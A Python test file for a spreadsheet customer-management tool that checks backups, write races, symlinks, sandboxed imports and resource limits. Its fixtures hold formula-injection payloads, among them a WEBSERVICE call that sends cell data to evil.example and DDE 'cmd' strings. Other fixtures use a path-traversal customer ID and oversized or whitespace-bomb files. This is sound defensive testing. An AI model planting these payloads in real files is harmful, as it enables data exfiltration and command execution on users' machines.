"""Nothing lost, nothing run, nothing leaked (issue: backups, races, symlinks, injected
formulas, hostile files).  Every fixture is built here: books and archives written by
real writers or patched the way an attacker would, races driven by a paused writer."""
from __future__ import annotations

import csv
import os
import re
import resource
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kam_xl import layout as L
from kam_xl.cli import main
from kam_xl.files import run_import, run_regrade, run_validate
from kam_xl.importing import sandbox
from kam_xl.importing.readers import UnreadableSource
from kam_xl.workbook import store as store_mod
from kam_xl.workbook.package import read_package
from kam_xl.workbook.store import FileStore
from tests.conftest import good_customer

ROOT = Path(__file__).resolve().parents[2]


def _patch_member(path: Path, member: str, edit) -> None:
    """Rewrite one zip member (what a crafted file or another writer does)."""
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in items:
            z.writestr(info, edit(data) if info.filename == member else data)


def _sheet_part(path: Path, sheet: str) -> str:
    with zipfile.ZipFile(path) as z:
        return read_package(z).sheets[sheet]


def _customers_csv(path: Path, names: list[str], extra: dict[str, str] | None = None) -> Path:
    heads = ["客户名称", "年用量(元)", "联系人"] + list(extra or {})
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(heads)
        for n in names:
            w.writerow([n, "300000", "王经理"] + list((extra or {}).values()))
    return path


# -- backups ---------------------------------------------------------------------------
def test_backups_of_one_book_never_rotate_away_another_books(book_factory, tmp_path):
    folder = tmp_path / "office"
    folder.mkdir()
    plain = folder / "大客户管理.xlsm"
    demo = folder / "大客户管理_演示.xlsm"
    book_factory().replace(plain)
    book_factory().replace(demo)
    for _ in range(3):
        FileStore(plain, backups_keep=10)
        store_mod.backup(plain, keep=10)
    for _ in range(12):
        store_mod.backup(demo, keep=10)
    backups = sorted(p.name for p in (folder / "备份").iterdir())
    assert sum(n.startswith("大客户管理_演示_") for n in backups) == 10
    mine = [n for n in backups if store_mod.backup_name(plain).match(n)]
    assert len(mine) == 3  # the demo book's rotation left them alone
    # and the plain book's own rotation leaves the demo's ten
    for _ in range(4):
        store_mod.backup(plain, keep=2)
    backups = sorted(p.name for p in (folder / "备份").iterdir())
    assert sum(bool(store_mod.backup_name(plain).match(n)) for n in backups) == 2
    assert sum(bool(store_mod.backup_name(demo).match(n)) for n in backups) == 10


def test_a_backup_folder_that_is_a_file_refuses_clearly(book_factory, tmp_path, capsys):
    book = book_factory(customers=[good_customer(1, **{"客户等级": None})])
    (book.parent / "备份").write_text("not a folder")
    before = book.read_bytes()
    assert main(["regrade", str(book)]) == 2
    err = capsys.readouterr().err
    assert "备份" in err and "是一个文件" in err and "is a file" in err
    assert "Traceback" not in err
    assert book.read_bytes() == before
    assert not list(book.parent.glob(".~kam_*"))


# -- races -------------------------------------------------------------------------------
def test_two_writers_at_once_never_lose_an_update(book_factory, tmp_path, monkeypatch):
    """Import A is paused at its rename; import B, which read the same book, must be
    refused (not succeed and vanish), and A's row must be in the book."""
    book = book_factory()
    src_a = _customers_csv(tmp_path / "a.csv", ["甲方科技有限公司"])
    src_b = _customers_csv(tmp_path / "b.csv", ["乙方贸易有限公司"])
    real_swap = store_mod._swap
    at_swap, go_on = threading.Event(), threading.Event()

    def paused_swap(tmp, path):
        if threading.current_thread().name == "writer-a":
            at_swap.set()
            assert go_on.wait(30)
        real_swap(tmp, path)

    monkeypatch.setattr(store_mod, "_swap", paused_swap)
    results: dict[str, object] = {}

    def run(name, src):
        try:
            results[name] = run_import(book, [src])
        except Exception as e:  # noqa: BLE001 — the refusal is what we look at
            results[name] = e

    a = threading.Thread(target=run, args=("a", src_a), name="writer-a")
    a.start()
    assert at_swap.wait(60)
    b = threading.Thread(target=run, args=("b", src_b), name="writer-b")
    b.start()
    time.sleep(1.0)  # B has read and is waiting for the commit step A holds
    assert b.is_alive()
    go_on.set()
    a.join(60)
    b.join(60)
    names = {c.name for c in FileStore(book).load_customers()} if hasattr(FileStore, "load_customers") else \
        {r["客户名称"] for r in _table(book, L.CUSTOMERS)}
    assert "甲方科技有限公司" in names
    from kam_xl.errors import WorkbookChanged
    assert isinstance(results["b"], WorkbookChanged), results["b"]
    assert "乙方贸易有限公司" not in names


def _table(book: Path, tdef) -> list[dict]:
    from tests.helpers import table_records
    return table_records(book, tdef.sheet, tdef.name)


# -- symlinks ----------------------------------------------------------------------------
def test_a_book_opened_through_a_symlink_is_written_through(book_factory, tmp_path):
    real = book_factory(customers=[good_customer(1, **{"客户等级": None})])
    link_dir = tmp_path / "desk"
    link_dir.mkdir()
    link = link_dir / "我的主工作簿.xlsm"
    link.symlink_to(real)
    res = run_regrade(link)
    assert res.changes
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert _table(real, L.CUSTOMERS)[0]["客户等级"]  # the real book got the grade
    backups = list((real.parent / "备份").iterdir())
    assert backups and not any(p.is_symlink() for p in backups)
    assert not (link_dir / "备份").exists()


def test_archive_symlinks_out_of_the_folder_and_special_files_are_refused_by_name(book_factory, tmp_path):
    book = book_factory()
    outside = tmp_path / "secret"
    outside.mkdir()
    _customers_csv(outside / "机密客户.csv", ["不该导入有限公司"])
    archive = tmp_path / "archive"
    archive.mkdir()
    _customers_csv(archive / "客户.csv", ["正常导入有限公司"])
    (archive / "外链.csv").symlink_to(outside / "机密客户.csv")
    (archive / "零.csv").symlink_to("/dev/zero")
    os.mkfifo(archive / "管道.csv")
    t0 = time.monotonic()
    res = run_import(book, [archive])
    assert time.monotonic() - t0 < 60
    names = {r["客户名称"] for r in _table(book, L.CUSTOMERS)}
    assert "正常导入有限公司" in names and "不该导入有限公司" not in names
    why = dict(res.unreadable)
    assert any("外链.csv" in f for f in why) and any("零.csv" in f for f in why) and any("管道.csv" in f for f in why)
    text = " ".join(why.values())
    assert "链接" in text and ("不是普通文件" in text)


def test_a_fifo_given_by_name_does_not_hang(book_factory, tmp_path, capsys):
    book = book_factory()
    fifo = tmp_path / "客户.csv"
    os.mkfifo(fifo)
    t0 = time.monotonic()
    assert main(["import", str(book), str(fifo)]) == 1
    assert time.monotonic() - t0 < 30
    assert "不是普通文件" in capsys.readouterr().out


# -- code from the working folder ------------------------------------------------------
def test_the_import_child_never_runs_code_from_the_working_folder(book_factory, tmp_path):
    book = book_factory()
    work = tmp_path / "work"
    work.mkdir()
    marker = tmp_path / "pwned"
    for mod in ("pickle", "python_calamine", "kam_xl", "csv", "re"):
        (work / f"{mod}.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n", encoding="utf-8")
    xlsx = tmp_path / "客户.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["客户名称", "年用量(元)"])
    wb.active.append(["工作目录测试有限公司", 300000])
    wb.save(xlsx)
    # what a user runs: the installed command (the parent), from a folder holding such files
    exe = Path(sys.executable).with_name("kam-xl")
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    r = subprocess.run([str(exe), "import", str(book), str(xlsx)], cwd=work, capture_output=True, text=True,
                       env=env)
    assert r.returncode in (0, 1), r.stderr
    assert not marker.exists()
    assert "工作目录测试有限公司" in {r["客户名称"] for r in _table(book, L.CUSTOMERS)}


# -- formula injection --------------------------------------------------------------------
INJECTED = ['=HYPERLINK("http://evil.example/x","点击")', '=WEBSERVICE("http://evil.example/?"&A1)',
            "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def _formulas_in(xlsx: Path) -> list[str]:
    out = []
    with zipfile.ZipFile(xlsx) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                out += re.findall(r"<f\b[^>]*>([^<]*)</f>", z.read(n).decode("utf-8"))
    return out


def test_imported_text_never_becomes_a_live_formula_in_any_output(book_factory, tmp_path):
    book = book_factory()
    src = tmp_path / '=HYPERLINK("http-evil")客户.csv'  # its name lands in the report's 文件/工作表 columns
    with open(src, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(["客户名称", "年用量(元)", "联系人", "备注", "区域"])
        for i, bad in enumerate(INJECTED):
            w.writerow([f"注入测试{i}有限公司", "300000", bad, bad, bad])
    report_csv = tmp_path / "导入报告.csv"
    assert main(["import", str(book), str(src), "--report", str(report_csv)]) in (0, 1)
    stored = {r["客户名称"]: r for r in _table(book, L.CUSTOMERS)}
    assert stored["注入测试0有限公司"]["联系人"] == INJECTED[0]  # kept as the user's text
    # the master stores them as text, never as formulas
    assert not any("HYPERLINK" in f or "WEBSERVICE" in f for f in _formulas_in(book))
    # the import report CSV: every such field neutralised (OWASP: a leading apostrophe)
    with open(report_csv, encoding="utf-8-sig") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert cells and not any(c[:1] in "=+-@\t\r" and c[:1] for c in cells if c)
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # there, and neutralised
    # the report workbook and the form
    out = tmp_path / "out"
    assert main(["report", str(book), "--out", str(out)]) in (0, 1)
    ids = {r["客户名称"]: r["客户编号"] for r in _table(book, L.CUSTOMERS)}
    assert main(["form", str(book), ids["注入测试0有限公司"], "--out", str(out), "--no-pdf"]) == 0
    assert len(list(out.glob("*.xlsx"))) == 2
    for x in out.glob("*.xlsx"):
        assert not any("HYPERLINK" in f or "WEBSERVICE" in f or "cmd|" in f for f in _formulas_in(x)), x


# -- hostile master books --------------------------------------------------------------
@pytest.mark.parametrize("where", ["XFD1048576", "XFD10000", "A1048576"])
def test_a_far_away_note_neither_crashes_nor_blows_memory(book_factory, tmp_path, where):
    book = book_factory(customers=[good_customer(i, **{"客户等级": None}) for i in range(1, 6)])
    part = _sheet_part(book, L.CUSTOMERS.sheet)
    row = int("".join(ch for ch in where if ch.isdigit()))
    note = f'<row r="{row}"><c r="{where}" t="inlineStr"><is><t>备注：远处的一条笔记</t></is></c></row>'.encode()
    _patch_member(book, part, lambda x: x.replace(b"</sheetData>", note + b"</sheetData>"))
    for action in (["validate"], ["regrade"], ["report", "--out", str(tmp_path / "r")]):
        r = subprocess.run([sys.executable, "-c", _PEAK, *action, str(book)], capture_output=True, text=True,
                           timeout=300, cwd=ROOT)
        assert r.returncode in (0, 1), (action, r.returncode, r.stderr[-2000:])
        peak_mb = int(r.stdout.strip().splitlines()[-1])
        assert peak_mb < 2048, (action, peak_mb)
    # the note is still there, untouched
    with zipfile.ZipFile(book) as z:
        assert "远处的一条笔记".encode() in z.read(part)
    assert _table(book, L.CUSTOMERS)[0]["客户等级"]


_PEAK = ("import resource, sys\n"
         "from kam_xl.cli import main\n"
         "rc = main(sys.argv[1:])\n"
         "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)\n"
         "sys.exit(rc)\n")


def test_a_long_stretch_without_rows_is_scanned_in_linear_time(book_factory):
    """64 and 256 MB of blank space between two rows: the second must not cost 16× the first."""
    times = []
    for mb in (32, 128):
        book = book_factory()
        part = _sheet_part(book, L.CUSTOMERS.sheet)
        pad = b" " * (mb << 20)
        _patch_member(book, part, lambda x: x.replace(b"</sheetData>", pad + b"</sheetData>", 1))
        t0 = time.perf_counter()
        assert main(["validate", str(book)]) in (0, 1)
        times.append(time.perf_counter() - t0)
    assert times[1] < times[0] * 8 + 5, times


def test_a_whitespace_bomb_is_refused_in_bounded_time(book_factory, capsys):
    book = book_factory()
    part = _sheet_part(book, L.CUSTOMERS.sheet)
    pad = b" " * (300 << 20)
    _patch_member(book, part, lambda x: x.replace(b"<sheetData>", b"<sheetData>" + pad, 1))
    before = book.read_bytes()
    t0 = time.monotonic()
    assert main(["validate", str(book)]) == 2
    assert time.monotonic() - t0 < 120
    err = capsys.readouterr().err
    assert "异常" in err and "Traceback" not in err
    assert book.read_bytes() == before


# -- hostile archive files ---------------------------------------------------------------
def test_a_legacy_xlsx_with_a_far_cell_imports_within_bounds(book_factory, tmp_path):
    book = book_factory()
    src = tmp_path / "远处.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["客户名称", "年用量(元)"])
    for i in range(2000):
        ws.append([f"远处单元格测试{i}有限公司", 300000 + i])
    ws["XFD1"] = "备注"
    wb.save(src)
    r = subprocess.run([sys.executable, "-c", _PEAK, "import", str(book), str(src)], capture_output=True,
                       text=True, timeout=300, cwd=ROOT)
    assert r.returncode in (0, 1), r.stderr[-2000:]
    assert int(r.stdout.strip().splitlines()[-1]) < 2048
    names = {r["客户名称"] for r in _table(book, L.CUSTOMERS)}
    assert "远处单元格测试1999有限公司" in names


def test_a_huge_csv_is_parsed_under_a_memory_cap_not_in_the_main_process(book_factory, tmp_path):
    book = book_factory()
    src = tmp_path / "巨大.csv"
    line = ("巨大文件测试有限公司," + "x" * 2000 + "\n").encode("utf-8")
    with open(src, "wb") as f:
        f.write("客户名称,备注\n".encode("utf-8"))
        for _ in range((300 << 20) // len(line)):
            f.write(line)
    r = subprocess.run([sys.executable, "-c", _PEAK, "import", str(book), str(src)], capture_output=True,
                       text=True, timeout=600, cwd=ROOT)
    assert r.returncode in (0, 1, 2), r.stderr[-2000:]
    assert "Traceback" not in r.stderr and "内部错误" not in r.stderr + r.stdout
    assert int(r.stdout.strip().splitlines()[-1]) < 2048


_ASKS_ITS_CAP = ("import pickle, resource, sys\n"
                 "sys.stdin.buffer.read()\n"
                 "if sys.argv[2].endswith('big.csv'):\n"
                 "    hog = bytearray(3 << 30)\n"  # more than the cap
                 "sys.stdout.buffer.write(pickle.dumps(resource.getrlimit(resource.RLIMIT_AS)))\n")


def test_a_source_child_sets_its_memory_cap_itself_from_threads_too(tmp_path):
    """The child's cap is set by its own first lines (nothing runs between fork and exec): each
    child started from several threads at once has it, and one that asks for more is refused."""
    src = tmp_path / "a.csv"
    src.write_text("客户名称\n甲\n", encoding="utf-8")
    got: list = []
    threads = [threading.Thread(target=lambda: got.append(sandbox.run_isolated(src, None, _ASKS_ITS_CAP)))
               for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert got == [(sandbox.MEMORY_LIMIT, sandbox.MEMORY_LIMIT)] * 4
    big = tmp_path / "big.csv"
    big.write_text("客户名称\n甲\n", encoding="utf-8")
    with pytest.raises(UnreadableSource, match="2 GB"):
        sandbox.run_isolated(big, None, _ASKS_ITS_CAP)


# -- wrong or unclear -------------------------------------------------------------------
def test_the_import_report_is_written_only_for_what_was_written(book_factory, tmp_path):
    book = book_factory()
    src = _customers_csv(tmp_path / "a.csv", ["报告测试有限公司"])
    lock = book.with_name("~$" + book.name)
    lock.write_text("someone")
    report = tmp_path / "报告.csv"
    assert main(["import", str(book), str(src), "--report", str(report)]) == 2
    assert not report.exists()
    lock.unlink()
    assert main(["import", str(book), str(src), "--report", str(report)]) in (0, 1)
    assert report.exists()


def test_a_value_longer_than_a_cell_holds_is_refused_not_cut(book_factory, tmp_path):
    book = book_factory()
    src = _customers_csv(tmp_path / "长.csv", ["超长备注有限公司"], {"备注": "长" * 40_004})
    res = run_import(book, [src])
    row = {r["客户名称"]: r for r in _table(book, L.CUSTOMERS)}["超长备注有限公司"]
    assert not row["备注"]
    notes = " ".join(o.message for o in res.outcomes)
    assert "32767" in notes.replace(",", "") and "备注" in notes


def test_zip_member_names_in_cp437_are_kept_byte_for_byte(book_factory):
    book = book_factory(customers=[good_customer(1, **{"客户等级": None})])
    raw_name = "xl/media/\u00e9t\u00e9.bin"  # a name a writer stored without the UTF-8 flag
    class LegacyName(zipfile.ZipInfo):  # an old zip tool: CP437 bytes, no UTF-8 flag
        def _encodeFilenameFlags(self):
            return self.filename.encode("cp437"), self.flag_bits

    with zipfile.ZipFile(book, "a") as z:
        z.writestr(LegacyName(raw_name), b"payload")

    def names(p):
        with open(p, "rb") as f:
            data = f.read()
        return data.count(raw_name.encode("cp437")), data.count(raw_name.encode("utf-8"))

    before = names(book)
    assert before[0] >= 2 and before[1] == 0
    run_regrade(book)
    assert names(book) == before


def test_outputs_are_no_more_readable_than_the_book(book_factory, tmp_path):
    book = book_factory()
    os.chmod(book, 0o600)
    out = tmp_path / "out"
    assert main(["report", str(book), "--out", str(out)]) in (0, 1)
    src = _customers_csv(tmp_path / "a.csv", ["权限测试有限公司"])
    rep = tmp_path / "导入报告.csv"
    assert main(["import", str(book), str(src), "--report", str(rep)]) in (0, 1)
    files = list(out.glob("*.xlsx")) + [rep]
    assert files
    for p in files:
        assert os.stat(p).st_mode & 0o077 == 0, (p, oct(os.stat(p).st_mode))
    assert os.stat(book).st_mode & 0o777 == 0o600


def test_no_copy_of_the_book_is_left_in_the_temp_folder_even_after_kill(book_factory, tmp_path):
    """A book with error cells is read from a private copy: it has no name to leave behind."""
    import tempfile
    book = book_factory()
    part = _sheet_part(book, L.CUSTOMERS.sheet)
    _patch_member(book, part, lambda x: x.replace(b"<v>300000</v>", b"<v>#N/A</v>", 1).replace(
        b'<c r="J2" s=', b'<c r="J2" t="e" s=', 1))
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    env = {**os.environ, "TMPDIR": str(tmpdir)}
    code = ("import os, signal, sys\n"
            "from kam_xl.workbook.store import FileStore\n"
            "s = FileStore(sys.argv[1]); s.read(['Customers'])\n"
            "os.kill(os.getpid(), signal.SIGKILL)\n")
    r = subprocess.run([sys.executable, "-c", code, str(book)], env=env, cwd=ROOT)
    assert r.returncode == -9
    assert list(tmpdir.iterdir()) == []


_FULL_DISK = ("import resource, signal, sys\n"
              "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
              "from kam_xl.cli import main\n"
              "resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), int(sys.argv[1])))\n"
              "sys.exit(main(sys.argv[2:]))\n")


@pytest.mark.parametrize("action", ["report", "form", "new", "regrade"])
def test_a_full_disk_is_a_clear_refusal_with_nothing_left_behind(book_factory, tmp_path, action):
    """Every file the process writes may grow to 4 KB only (RLIMIT_FSIZE: the write fails as on a
    full disk, deterministically and without root)."""
    book = book_factory(customers=[good_customer(1, **{"客户等级": None})])
    out = tmp_path / "out"
    out.mkdir()
    before = book.read_bytes()
    args = {"report": ["report", str(book), "--out", str(out)],
            "form": ["form", str(book), "KH000001", "--out", str(out), "--no-pdf"],
            "new": ["new", str(out / "新.xlsm")],
            "regrade": ["regrade", str(book)]}[action]
    r = subprocess.run([sys.executable, "-c", _FULL_DISK, "4096", *args], capture_output=True, text=True,
                       cwd=ROOT, timeout=120)
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr and "内部错误" not in r.stderr
    assert "错误：" in r.stderr and "Error:" in r.stderr
    assert list(out.iterdir()) == []
    assert not list(book.parent.glob(".~kam*"))
    assert book.read_bytes() == before


def test_a_csv_named_like_an_instruction_sheet_still_imports(book_factory, tmp_path):
    book = book_factory()
    src = _customers_csv(tmp_path / "客户导入模板.csv", ["模板文件名测试有限公司"])
    res = run_import(book, [src])
    assert not res.unreadable
    assert "模板文件名测试有限公司" in {r["客户名称"] for r in _table(book, L.CUSTOMERS)}


# -- a book's own text never chooses a path or breaks a formula ------------------------
def test_a_customer_id_never_chooses_where_a_file_goes(book_factory, tmp_path):
    book = book_factory(customers=[good_customer(1, 客户编号="../../逃逸/KH1")])
    out = tmp_path / "out"
    assert main(["form", str(book), "../../逃逸/KH1", "--out", str(out), "--no-pdf"]) == 0
    assert main(["card", str(book), "../../逃逸/KH1", "--out", str(out), "--no-pdf"]) == 0
    written = sorted(p.name for p in out.iterdir())
    assert len(written) == 2 and all("/" not in n and not n.startswith(".") for n in written), written
    assert not (tmp_path / "逃逸").exists() and not (tmp_path.parent / "逃逸").exists()


def test_a_sheet_name_with_a_quote_stays_inside_the_finding_link(book_factory):
    """Excel allows " in a sheet name; the 行号 link is a string literal, so it is doubled."""
    book = book_factory(customers=[good_customer(1, 保密承诺="否")])
    wb = openpyxl.load_workbook(book, keep_vba=True)
    wb[L.CUSTOMERS.sheet].title = '客户"档案'
    wb.save(book)
    assert main(["validate", str(book)]) == 1
    wb = openpyxl.load_workbook(book)
    ws = wb[L.ISSUES.sheet]
    links = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
             and c.value.startswith("=HYPERLINK(")]
    assert links and all(link.startswith('=HYPERLINK("#\'客户""档案\'!') for link in links), links
    from openpyxl.formula import Tokenizer
    for link in links:  # a well-formed formula: one function, a string and the row number
        kinds = [(t.type, t.subtype) for t in Tokenizer(link).items]
        assert ("OPERAND", "TEXT") in kinds and ("OPERAND", "NUMBER") in kinds, kinds


def test_a_child_answer_that_is_not_a_parse_is_an_unreadable_file(tmp_path, monkeypatch):
    """The sandbox child answers with the file's rows or why it could not read them; anything
    else (a child that went wrong in a way nobody foresaw) is that file unreadable, never a crash."""
    from kam_xl.importing import service
    from tests.legacy_files import gbk_visits_csv
    src = gbk_visits_csv(tmp_path / "拜访.csv")
    monkeypatch.setattr(service, "run_isolated", lambda *a, **k: ["not", "a", "parse"])
    parsed = service.parse_sources([src])
    assert parsed.result.unreadable == [(src.name, "读取失败（读取程序的结果无法识别）")]
    assert not parsed.tables
